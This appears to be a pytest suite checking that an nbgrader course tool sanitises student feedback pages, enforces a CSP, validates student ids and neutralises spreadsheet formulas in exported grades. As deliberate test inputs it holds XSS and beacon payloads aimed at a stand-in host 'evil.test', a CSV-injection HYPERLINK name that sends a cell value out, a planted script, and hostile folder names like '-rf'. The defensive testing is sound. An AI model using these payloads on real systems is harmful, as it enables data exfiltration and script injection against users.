"""The instructor's and the students' pages ask no other host for anything, and student ids
are checked wherever the grader takes one: a real class, graded and given feedback by the
instructor's commands (`course.py autograde`, `feedback`, `export`), then every feedback
page loaded in Chromium with every request recorded.

The class: two honest students (full marks), `h_pages`, whose written answer and outputs
try every way to make the instructor's browser fetch from `evil.test` or run a
`javascript:` URL (markdown images, nested and by reference, `//host` sources, TeX's
`\\style{background-image:url(...)}`, `\\href{javascript:...}`, raw HTML through `\\text`,
HTML and Markdown outputs), `h_slow`, whose answer is megabytes of formulas (its feedback
overruns the budget), and folders named `=HYPERLINK(1)`, `-rf` and `*` in submitted/.
"""

from __future__ import annotations

import contextlib
import csv
import functools
import glob
import http.server
import shutil
import subprocess
import sys
import threading
from pathlib import Path

import nbformat
import pytest
from nbgrader.api import Gradebook, MissingEntry
from nngrade import manifest
from nngrade.solutions import answered, solution_sources
from playwright.sync_api import TimeoutError as PlaywrightTimeout

from ..browser.chromium import chromium
from ..conftest import COURSE_SRC, course_cli, generated_course

pytestmark = pytest.mark.slow

ASSIGNMENT = "backprop"
NOTEBOOKS = manifest.find(COURSE_SRC, ASSIGNMENT).notebook_names
A, B, F, C = NOTEBOOKS
HONEST = ["ann", "bob"]
BAD_FOLDERS = ["=HYPERLINK(1)", "-rf", "*"]
EVIL = "evil.test"
FEEDBACK_BUDGET = 25  # seconds per student; an honest student's feedback takes about 3 s

HOSTILE_TEXT = f"""PAGES-ANSWER-TEXT stays visible. The legit formula $W_2 W_1$ stays maths.

![plain](http://{EVIL}/md-image.png) ![proto](//{EVIL}/proto.png) ![Caps](HTTPS://{EVIL}/caps.png)
[![nested](http://{EVIL}/nested.png)](https://example.org/) ![a [b] c](http://{EVIL}/alt.png)
![by reference][img] ![img] [click me](javascript:window.__pwned='link')

$\\style{{background-image:url(http://{EVIL}/style.png)}}{{x}}$ and
$\\href{{javascript:window.__pwned='mathml'}}{{\\text{{MATHLINK}}}}$ and
$$\\text{{<img src=http://{EVIL}/text.png onerror="window.__pwned='text'">}}$$

<img src="http://{EVIL}/raw.png"> <a href="http://{EVIL}/raw">raw</a>
<div style="background:url(http://{EVIL}/css.png)">css</div>

[img]: http://{EVIL}/ref.png
"""
HOSTILE_CODE = f"""from IPython.display import HTML, Image, Markdown, display
display(HTML('<img src="http://{EVIL}/out-html.png"><b>OUTPUT-TEXT</b>'))
display(Markdown('![m](http://{EVIL}/out-md.png)'))
display(Image(url='http://{EVIL}/out-image.png'))
kink_x = 0.0
def kink_position(w, b):
    return 0.0
"""
# megabytes of formulas: minutes of latex2mathml for one student's feedback
SLOW_TEXT = " ".join(f"$\\frac{{a_{{{i}}}}}{{b + {i}}}\\sqrt{{x^{{{i}}}}}$" for i in range(60_000))


def write_submission(course: Path, student: str, answers: dict[str, dict[str, str]]) -> None:
    folder = course / "submitted" / student / ASSIGNMENT
    folder.mkdir(parents=True)
    (folder / "timestamp.txt").write_text("2026-11-29 10:00:00.000000 UTC")
    for name, cells in answers.items():
        nb = nbformat.read(course / "release" / ASSIGNMENT / f"{name}.ipynb", as_version=4)
        nbformat.write(answered(nb, cells), folder / f"{name}.ipynb")


@pytest.fixture(scope="module")
def env(exercises_env) -> dict:
    return dict(exercises_env, NN_BACKPROP_CELL_TIMEOUT="15")


@pytest.fixture(scope="module")
def course(tmp_path_factory, env):
    """The class handed in (straight into submitted/, as collect leaves it), graded by
    `course.py autograde`; given feedback by `course.py feedback`; exported."""
    root = tmp_path_factory.mktemp("pages")
    course = generated_course(root, env)
    sols = solution_sources(COURSE_SRC, ASSIGNMENT)
    sols[C]["c_reasoning"] = "One linear layer is one linear map; ReLU kinks bend it."
    for student in HONEST:
        write_submission(course, student, sols)
    write_submission(
        course, "h_pages", {C: {"c_reasoning": HOSTILE_TEXT, "c_kink_answer": HOSTILE_CODE}}
    )
    write_submission(course, "h_slow", {C: {"c_reasoning": SLOW_TEXT}})
    for name in BAD_FOLDERS:
        shutil.copytree(course / "submitted" / "ann", course / "submitted" / name)
    exchange = root / "exchange"
    steps = {
        "autograde": course_cli(course, exchange, "autograde", "--jobs", "2", "--quiet", env=env),
        "feedback": course_cli(
            course, exchange, "feedback", "--jobs", "2", "--budget", str(FEEDBACK_BUDGET), env=env
        ),
    }
    # a name a spreadsheet would run, given by the instructor's own tool
    subprocess.run(
        [str(Path(sys.executable).parent / "nbgrader"), "db", "student", "add", "ann"]
        + ['--first-name==HYPERLINK("http://evil.test/?"&A1,"x")', "--last-name=-2+3"],
        cwd=course,
        env=env,
        capture_output=True,
        check=True,
    )
    steps["export"] = course_cli(
        course, exchange, "export", "--output", str(root / "grades.csv"), env=env
    )
    return dict(course=course, exchange=exchange, steps=steps, csv=root / "grades.csv")


def output(proc) -> str:
    return proc.stdout[-3000:] + proc.stderr[-3000:]


# ------------------------------------------------------------------------------ student ids


def test_bad_folder_names_are_reported_skipped_and_honest_students_keep_their_grades(course):
    proc = course["steps"]["autograde"]
    assert proc.returncode == 3, output(proc)
    for name in BAD_FOLDERS:
        assert f"{name!r} is not a valid student id" in proc.stderr, output(proc)
    graded = {p.name for p in (course["course"] / "autograded").iterdir() if p.is_dir()}
    assert graded == {*HONEST, "h_pages", "h_slow"}, graded
    with (course["course"] / "autograded" / "summary.csv").open() as fh:
        summary = {row["student"]: row for row in csv.DictReader(fh)}
    assert set(summary) == {*HONEST, "h_pages", "h_slow"}
    for student in HONEST:
        assert summary[student]["score"] == "28" and summary[student]["status"] == "graded"


# (each run costs a start of course.py; test_student_ids.py has every case of the rule)
REFUSED = [("autograde", s) for s in ["..", "../x", "-rf", "=HYPERLINK(1)"]]
REFUSED += [("feedback", "..")]


@pytest.mark.parametrize("command,student", REFUSED)
def test_an_invalid_student_id_is_refused_and_nothing_is_touched(course, command, student):
    before = sorted(str(p) for p in course["course"].rglob("*"))
    key = (course["course"] / ASSIGNMENT / "key.py").read_bytes()
    proc = course_cli(
        course["course"], course["exchange"], command, f"--student={student}", env=None
    )
    assert proc.returncode == 1, output(proc)
    assert "is not a valid student id" in proc.stderr, output(proc)
    assert sorted(str(p) for p in course["course"].rglob("*")) == before
    assert (course["course"] / ASSIGNMENT / "key.py").read_bytes() == key


def test_the_exported_csv_holds_no_formula(course):
    proc = course["steps"]["export"]
    assert proc.returncode == 0, output(proc)
    with course["csv"].open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert {row["student_id"] for row in rows} == {*HONEST, "h_pages", "h_slow"}
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    ann = next(row for row in rows if row["student_id"] == "ann")
    assert ann["first_name"].startswith("'=HYPERLINK(") and ann["last_name"] == "'-2+3"


# ------------------------------------------------------------------------ feedback budget


def test_feedback_that_overruns_its_budget_is_reported_and_everyone_else_gets_theirs(course):
    proc = course["steps"]["feedback"]
    assert proc.returncode == 3, output(proc)
    assert "h_slow: writing the feedback ran over its budget" in proc.stdout, output(proc)
    feedback = course["course"] / "feedback"
    assert not (feedback / "h_slow" / ASSIGNMENT).exists()
    for student in HONEST:
        pages = {p.name for p in (feedback / student / ASSIGNMENT).glob("*.html")}
        assert pages == {f"{name}.html" for name in NOTEBOOKS}, (student, pages)
    assert (feedback / "h_pages" / ASSIGNMENT / f"{C}.html").is_file()


# ---------------------------------------------------------------------- pages in Chromium


@pytest.fixture(scope="module")
def served_feedback(course):
    """The feedback folder served from 127.0.0.1, as a student's JupyterLab serves it."""
    handler = functools.partial(
        http.server.SimpleHTTPRequestHandler, directory=str(course["course"] / "feedback")
    )
    handler.log_message = lambda *a: None
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


# every attribute in the page whose value names another host or a script URL; a link's
# href may name another host (following it is the reader's choice: no request on load)
FOREIGN_ATTRIBUTES = """() => {
  const out = [];
  for (const el of document.querySelectorAll('*')) {
    for (const a of el.attributes) {
      const v = a.value.trim().toLowerCase();
      if (el.tagName === 'A' && a.name === 'href' && /^https?:/.test(v)) continue;
      if (v.startsWith('javascript:') || v.includes('evil.test'))
        out.push(el.tagName + ' ' + a.name + '=' + a.value);
    }
  }
  return out;
}"""


def load(browser, url: str, base: str, *, bypass_csp: bool = False, settle: str = "") -> dict:
    """Open `url` with every request recorded, also those the CSP blocks (anything not from
    `base` that reaches the network is refused there), wait
    for `settle` (a selector) if given, click the hostile answer's links, and say what
    happened."""
    context = browser.new_context(bypass_csp=bypass_csp)
    page = context.new_page()
    requests, violations = [], []
    page.on("request", lambda r: requests.append(r.url))
    page.on("console", lambda m: "Content Security Policy" in m.text and violations.append(m.text))
    fetched = []  # what reached the network: a request the CSP blocks never does

    def route(route):
        fetched.append(route.request.url)
        route.continue_() if route.request.url.startswith(base) else route.abort()

    context.route("**/*", route)
    page.goto(url, wait_until="load")
    if settle:  # not there in time: the assertions on what was requested say why
        with contextlib.suppress(PlaywrightTimeout):
            page.wait_for_selector(settle, state="attached", timeout=60_000)
    page.wait_for_timeout(500)
    for text in ("MATHLINK", "click me"):
        for element in page.get_by_text(text, exact=True).all():
            element.dispatch_event("click")  # a link follows it, as if the reader clicked
    page.wait_for_timeout(300)
    found = dict(
        requests=requests,
        foreign=[u for u in requests if not u.startswith(base)],  # even those the CSP blocked
        fetched_foreign=[u for u in fetched if not u.startswith(base)],
        attributes=page.evaluate(FOREIGN_ATTRIBUTES),
        pwned=page.evaluate("() => window.__pwned || null"),
        text=page.inner_text("body"),
        maths=page.locator("math").count(),
        mathjax=page.locator("mjx-container").count(),
        csp=page.evaluate(
            "() => [...document.querySelectorAll('meta[http-equiv]')].map(m => m.content)"
        ),
        violations=violations,
    )
    context.close()
    return found


@pytest.mark.parametrize("bypass_csp", [False, True], ids=["with CSP", "sanitising alone"])
def test_feedback_pages_request_nothing_from_another_host(course, served_feedback, bypass_csp):
    pages = sorted((course["course"] / "feedback").glob(f"*/{ASSIGNMENT}/*.html"))
    assert len(pages) == 2 * len(NOTEBOOKS) + 1, pages  # h_pages handed in Part C only
    with chromium() as browser:
        for path in pages:
            rel = path.relative_to(course["course"] / "feedback").as_posix()
            seen = load(browser, f"{served_feedback}/{rel}", served_feedback, bypass_csp=bypass_csp)
            assert seen["foreign"] == [], (rel, seen["foreign"])
            assert seen["attributes"] == [], (rel, seen["attributes"])
            assert seen["pwned"] is None, rel
            assert any("default-src 'none'" in c for c in seen["csp"]), (rel, seen["csp"])
    hostile = course["course"] / "feedback" / "h_pages" / ASSIGNMENT / f"{C}.html"
    with chromium() as browser:
        seen = load(
            browser,
            f"{served_feedback}/h_pages/{ASSIGNMENT}/{hostile.name}",
            served_feedback,
            bypass_csp=bypass_csp,
        )
    assert "PAGES-ANSWER-TEXT stays visible" in seen["text"] and "OUTPUT-TEXT" in seen["text"]
    assert seen["maths"] >= 3, seen["maths"]  # W_2 W_1 and the two cleaned formulas
    assert "MATHLINK" in seen["text"]


def test_a_page_the_sanitiser_missed_would_still_fetch_nothing(course, served_feedback):
    """The CSP alone: a feedback page with a remote image put back in by hand."""
    page = course["course"] / "feedback" / "ann" / ASSIGNMENT / f"{A}.html"
    planted = page.with_name("planted.html")
    planted.write_text(
        page.read_text().replace(
            "</body>",
            f'<img src="http://{EVIL}/planted.png"><script>window.__pwned = 1</script></body>',
        )
    )
    try:
        with chromium() as browser:
            seen = load(
                browser,
                f"{served_feedback}/ann/{ASSIGNMENT}/planted.html",
                served_feedback,
                bypass_csp=False,
            )
    finally:
        planted.unlink()
    assert seen["fetched_foreign"] == [] and seen["pwned"] is None, seen
    assert f"http://{EVIL}/planted.png" in seen["foreign"], "the planted image was never asked for"
    assert seen["violations"], "the CSP blocked nothing: was it in the page?"


@pytest.mark.parametrize("student", ["-rf", "=HYPERLINK(1)"])
def test_plain_nbgrader_grades_no_folder_with_an_invalid_name(course, env, student):
    """formgrader's Autograde button runs nbgrader's own autograde: its first step refuses."""
    proc = subprocess.run(
        [str(Path(sys.executable).parent / "nbgrader"), "autograde", ASSIGNMENT]
        + [f"--student={student}", "--force"],
        cwd=course["course"],
        env=env,
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert proc.returncode != 0, proc.stdout[-2000:] + proc.stderr[-2000:]
    assert "is not a valid student id" in proc.stdout + proc.stderr
    assert not list((course["course"] / "autograded").glob(f"{glob.escape(student)}/*/*.ipynb"))
    with Gradebook(f"sqlite:///{course['course'] / 'gradebook.db'}") as gb:
        try:
            score = gb.find_submission(ASSIGNMENT, student).score
        except MissingEntry:
            score = 0
    assert score == 0
